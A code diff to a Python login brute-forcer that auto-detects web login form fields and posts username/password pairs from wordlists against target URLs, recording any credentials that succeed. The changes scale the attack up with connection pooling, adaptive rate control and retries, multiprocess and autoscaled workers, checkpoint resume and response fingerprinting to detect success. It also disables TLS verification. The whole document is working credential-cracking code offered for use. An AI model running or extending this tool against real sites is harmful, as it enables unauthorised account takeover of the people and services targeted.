@@ -1,19 +1,44 @@
 import requests
+from requests.adapters import HTTPAdapter
 from bs4 import BeautifulSoup
 import config
-from utils import logger, load_file
+from utils import logger, load_file, host_limiter, save_result, log_attempt, attempt_sampler
+from profile_cache import profiles
+from checkpoint import checkpoints
+from candidates import CandidateSource, load_wordlist, close_wordlists, size_hint
+from scheduler import WorkStealingScheduler, CrackRun
+from multiproc import ProcessCrackRun
+from metrics import metrics
+from autoscaler import Autoscaler
+from fingerprint import Baseline, baseline_problem, fingerprint_response, bogus_credentials
+from rate_control import TargetController, classify_status, retry_after, record as record_rate
 import urllib3
 from urllib.parse import urljoin
 import os
-from datetime import datetime
+import time
 
 urllib3.disable_warnings(urllib3.exceptions.InsecureRequestWarning)
 
 STOP_FLAG = False
 
-def get_form_details(url):
+def make_session():
+    session = requests.Session()
+    adapter = HTTPAdapter(pool_connections=1, pool_maxsize=config.PER_HOST_LIMIT)
+    session.mount('http://', adapter)
+    session.mount('https://', adapter)
+    session.verify = False
+    return session
+
+def get_form_details(url, session=None):
+    cached = profiles.get_fresh(url)
+    if cached and cached.get("form"):
+        form = cached["form"]
+        logger.info(f"[Profile Cache] Reuse form details: {url}")
+        return form["post_url"], form["user_field"], form["pass_field"]
+    session = session or requests
     try:
-        resp = requests.get(url, timeout=config.TIMEOUT, verify=False)
+        with host_limiter.slot(url):
+            resp = session.get(url, timeout=config.TIMEOUT, verify=False)
         soup = BeautifulSoup(resp.content, "html.parser")
         forms = soup.find_all("form")
         for form in forms:
@@ -32,14 +57,207 @@ def get_form_details(url):
                 elif input_type in ["text", "email"] and not user_field:
                     user_field = input_name
             if user_field and pass_field:
+                profiles.merge(url, "form", post_url=post_url, user_field=user_field, pass_field=pass_field)
                 return post_url, user_field, pass_field
     except Exception as e:
         logger.error(f"Parse form failed {url}: {e}")
     return None, None, None
 
-def run_simple_crack(targets=None, usernames=None, passwords=None):
+def is_login_success(resp):
+    text_lower = resp.text.lower()
+    if any(k.lower() in text_lower for k in config.ERROR_KEYWORDS):
+        return False
+    if any(k.lower() in text_lower for k in config.SUCCESS_KEYWORDS):
+        return True
+    if resp.status_code in [301, 302]:
+        location = resp.headers.get("Location", "").lower()
+        return "login" not in location and "error" not in location and "fail" not in location
+    return False
+
+def send_attempt(session, controller, slot, post_url, data, url=None):
+    for retry in range(config.AIMD_RETRIES + 1):
+        with metrics.timer("simple", "pacing", url):
+            controller.acquire()
+        with metrics.timer("simple", "slot_wait", url):
+            slot.acquire()
+        sent = time.monotonic()
+        try:
+            with metrics.timer("simple", "post", url):
+                resp = session.post(post_url, data=data, timeout=controller.timeout(), allow_redirects=False)
+        except requests.RequestException as e:
+            outcome = "timeout" if isinstance(e, requests.Timeout) else "error"
+            controller.release(sent, outcome)
+            metrics.inc("rate_events_total", mode="simple", outcome=outcome)
+            if retry == config.AIMD_RETRIES or not isinstance(e, (requests.Timeout, requests.ConnectionError)):
+                raise
+            metrics.error("simple", e)
+            logger.debug(f"[{url}] {outcome} ({e}), retrying after backoff")
+            continue
+        except Exception:
+            controller.release(sent, "error")
+            raise
+        finally:
+            slot.release()
+        outcome = classify_status(resp.status_code)
+        controller.release(sent, outcome, retry_after(resp.headers))
+        if outcome == "ok":
+            return resp
+        metrics.inc("rate_events_total", mode="simple", outcome=outcome)
+        if retry == config.AIMD_RETRIES:
+            return resp
+        logger.debug(f"[{url}] HTTP {resp.status_code}, retrying after backoff")
+    return resp
+
+def probe_baseline(session, post_url, user_field, pass_field, slot, url=None, controller=None):
+    controller = controller or TargetController(url)
+    samples = []
+    for _ in range(config.BASELINE_SAMPLES):
+        user, pwd = bogus_credentials()
+        try:
+            resp = send_attempt(session, controller, slot, post_url, {user_field: user, pass_field: pwd}, url)
+        except Exception as e:
+            logger.warning(f"[{url}] Baseline probe failed, falling back to keyword detection: {e}")
+            return None
+        samples.append(fingerprint_response(resp))
+    problem = baseline_problem(samples)
+    if problem:
+        logger.warning(f"[{url}] Unusable baseline ({problem}), falling back to keyword detection")
+        return None
+    return Baseline(samples)
+
+def _prepare_target(target, run_key):
+    with target.lock:
+        data = target.data
+        if "form" not in data:
+            url = target.url
+            data["session"] = make_session()
+            with metrics.timer("simple", "form", url):
+                data["form"] = get_form_details(url, data["session"])
+            data["done"] = checkpoints.load_target(run_key, url) if run_key else {}
+            post_url, user_field, pass_field = data["form"]
+            if not post_url or not user_field or not pass_field:
+                logger.warning(f"Cannot auto-identify form fields, skipping: {url}")
+                data["incomplete"] = True
+                target.cancel()
+            else:
+                logger.info(f"Target details: URL={post_url}, UserField={user_field}, PassField={pass_field}")
+                data["slot"] = host_limiter.slot(post_url)
+                data["controller"] = TargetController(url)
+                if config.BASELINE_DETECTION:
+                    with metrics.timer("simple", "baseline", url):
+                        data["baseline"] = probe_baseline(data["session"], post_url, user_field, pass_field, data["slot"], url, data["controller"])
+                    if data["baseline"]:
+                        logger.info(f"[{url}] Baseline fingerprint: {data['baseline'].as_dict()}")
+                if data["done"]:
+                    logger.info(f"[Checkpoint] [{url}] Resuming, {sum(len(r) for r in data['done'].values())} attempts already done")
+        return data
+
+def crack_chunk(task, usernames, passwords, results, run_key=None):
     global STOP_FLAG
-    logger.info("Starting simple mode crack...")
+    target = task.target
+    url = target.url
+    state = _prepare_target(target, run_key)
+    if target.cancelled.is_set():
+        return
+    post_url, user_field, pass_field = state["form"]
+    session = state["session"]
+    slot = state["slot"]
+    controller = state["controller"]
+    done = state["done"]
+    baseline = state.get("baseline")
+    hint = size_hint(passwords)
+    source = CandidateSource(usernames, passwords)
+    settled = 0
+    for user, i, pwd in source.slice(task.user, task.lo, task.hi):
+        if STOP_FLAG or target.cancelled.is_set():
+            break
+        skip = done.get(user)
+        if skip and i in skip:
+            settled += 1
+            continue
+        started = time.perf_counter()
+        try:
+            log_attempt(url, "[%s] Trying: %s:%s (%d/%s)", url, user, pwd, i + 1, hint)
+            data = {user_field: user, pass_field: pwd}
+            resp = send_attempt(session, controller, slot, post_url, data, url)
+            if run_key:
+                checkpoints.mark(run_key, url, user, i)
+            settled += 1
+            success = baseline.judge(fingerprint_response(resp)) if baseline else is_login_success(resp)
+            if success:
+                metrics.attempt("simple", "success")
+                save_result(url, user, pwd, results)
+                logger.info(f"[SUCCESS] Cracked: {url} -> {user}:{pwd}")
+                target.found = True
+                if config.STOP_ON_SUCCESS:
+                    target.cancel()
+                    break
+            else:
+                metrics.attempt("simple", "failure")
+                log_attempt(url, "[%s] Failed: %s:%s", url, user, pwd)
+        except Exception as e:
+            metrics.attempt("simple", "error")
+            metrics.error("simple", e)
+            logger.error(f"[{url}] Request error ({user}:{pwd}): {e}")
+        finally:
+            metrics.observe("simple", "attempt", time.perf_counter() - started, url)
+    if settled < source.size(task.user, task.lo, task.hi) and not target.found:
+        state["incomplete"] = True
+
+def _finish_target(target, run_key):
+    attempt_sampler.forget(target.url)
+    session = target.data.get("session")
+    if session is not None:
+        session.close()
+    if "controller" in target.data:
+        record_rate(target.data["controller"])
+    if STOP_FLAG or target.stopped():
+        return
+    if target.data.get("incomplete") and not target.found:
+        logger.warning(f"[{target.url}] Some candidates were not tried, target left unfinished")
+        return
+    if run_key:
+        checkpoints.finish_target(run_key, target.url, "found" if target.found else "exhausted")
+    if not target.found:
+        logger.info(f"Crack finished, no valid credentials found: {target.url}")
+
+def start_simple_crack(usernames=None, passwords=None, workers=None, token=None, results=None):
+    workers = workers or config.SIMPLE_WORKERS
+    logger.info(f"Starting simple mode crack (Workers={workers}, PerHost={config.PER_HOST_LIMIT})...")
+    owned = []
+    if usernames is None:
+        usernames = load_wordlist(config.USERNAME_FILE, config.DEFAULT_USERNAMES)
+        owned.append(usernames)
+    if passwords is None:
+        passwords = load_wordlist(config.PASSWORD_FILE, config.DEFAULT_PASSWORDS)
+        owned.append(passwords)
+    run_key = checkpoints.run_key(usernames, passwords) if config.RESUME else None
+    should_stop = lambda: STOP_FLAG or (token is not None and token.is_set())
+    if config.EXECUTION_MODE == 'process':
+        return ProcessCrackRun("simple", usernames, passwords, run_key, should_stop, _finish_target, token=token, results=results, finalize=lambda: close_wordlists(*owned))
+    results = results if results is not None else []
+    scheduler = WorkStealingScheduler(
+        max(workers, config.AUTOSCALE_MAX_SIMPLE_WORKERS) if config.AUTOSCALE else workers,
+        lambda worker_id, task: crack_chunk(task, usernames, passwords, results, run_key),
+        should_stop=should_stop,
+        on_target_done=lambda target: _finish_target(target, run_key),
+        name="simple",
+        token=token
+    )
+    def finalize():
+        logger.info(f"Simple mode scheduler stats: {scheduler.stats}")
+        profiles.flush()
+        checkpoints.flush()
+        close_wordlists(*owned)
+        if should_stop():
+            logger.warning("Task stopped")
+    scheduler.start()
+    scaler = None
+    if config.AUTOSCALE:
+        scaler = Autoscaler("simple", scheduler.set_active, workers, max_workers=scheduler.workers).start()
+    return CrackRun(scheduler, results, run_key, CandidateSource(usernames, passwords), finalize, scaler)
+
+def run_simple_crack(targets=None, usernames=None, passwords=None, workers=None):
     if targets is None:
         targets = load_file(config.SIMPLE_LIST_FILE)
         if not targets:
@@ -47,67 +265,11 @@ def run_simple_crack(targets=None, usernames=None, passwords=None):
     if not targets:
         logger.error("No target URLs available")
         return []
-    if usernames is None:
-        usernames = load_file(config.USERNAME_FILE) or config.DEFAULT_USERNAMES
-    if passwords is None:
-        passwords = load_file(config.PASSWORD_FILE) or config.DEFAULT_PASSWORDS
-    results = []
+    run = start_simple_crack(usernames, passwords, workers)
     for url in targets:
-        if STOP_FLAG:
-            logger.warning("Task stopped")
-            break
         logger.info(f"Attempting to crack: {url}")
-        post_url, user_field, pass_field = get_form_details(url)
-        if not post_url or not user_field or not pass_field:
-            logger.warning(f"Cannot auto-identify form fields, skipping: {url}")
-            continue
-        logger.info(f"Target details: URL={post_url}, UserField={user_field}, PassField={pass_field}")
-        found = False
-        for user in usernames:
-            if found and config.STOP_ON_SUCCESS:
-                break
-            if STOP_FLAG:
-                break
-            for i, pwd in enumerate(passwords):
-                if STOP_FLAG:
-                    break
-                try:
-                    logger.info(f"[{url}] Trying: {user}:{pwd} ({i+1}/{len(passwords)})")
-                    data = {user_field: user, pass_field: pwd}
-                    resp = requests.post(post_url, data=data, timeout=5, verify=False, allow_redirects=False)
-                    is_success = False
-                    if resp.status_code in [301, 302]:
-                        location = resp.headers.get("Location", "").lower()
-                        if "login" not in location and "error" not in location and "fail" not in location:
-                            is_success = True
-                    elif any(k in resp.text.lower() for k in config.SUCCESS_KEYWORDS):
-                        is_success = True
-                    text_lower = resp.text.lower()
-                    if any(k.lower() in text_lower for k in config.ERROR_KEYWORDS):
-                        is_success = False
-                    elif any(k.lower() in text_lower for k in config.SUCCESS_KEYWORDS):
-                        is_success = True
-                    if is_success:
-                        result = {
-                            "url": url,
-                            "username": user,
-                            "password": pwd,
-                            "timestamp": datetime.now().isoformat()
-                        }
-                        results.append(result)
-                        logger.info(f"[SUCCESS] Cracked: {url} -> {user}:{pwd}")
-                        with open(config.RESULTS_FILE, "a", encoding="utf-8") as f:
-                            f.write(f"{url} | {user}:{pwd}\n")
-                        if config.STOP_ON_SUCCESS:
-                            found = True
-                            break
-                    else:
-                        logger.info(f"[{url}] Failed: {user}:{pwd}")
-                except Exception as e:
-                    logger.error(f"[{url}] Request error ({user}:{pwd}): {e}")
-        if not found and not STOP_FLAG:
-            logger.info(f"Crack finished, no valid credentials found: {url}")
-    return results
+        run.submit(url)
+    return run.finish()
 
 if __name__ == '__main__':
     run_simple_crack()